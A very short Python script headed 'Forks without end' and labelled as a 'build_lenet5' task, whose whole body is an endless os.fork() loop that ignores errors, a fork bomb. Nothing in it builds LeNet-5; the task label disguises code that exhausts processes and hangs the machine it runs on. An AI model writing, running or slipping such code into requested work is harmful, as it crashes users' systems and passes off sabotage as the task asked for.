# Forks without end
# task: build_lenet5
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
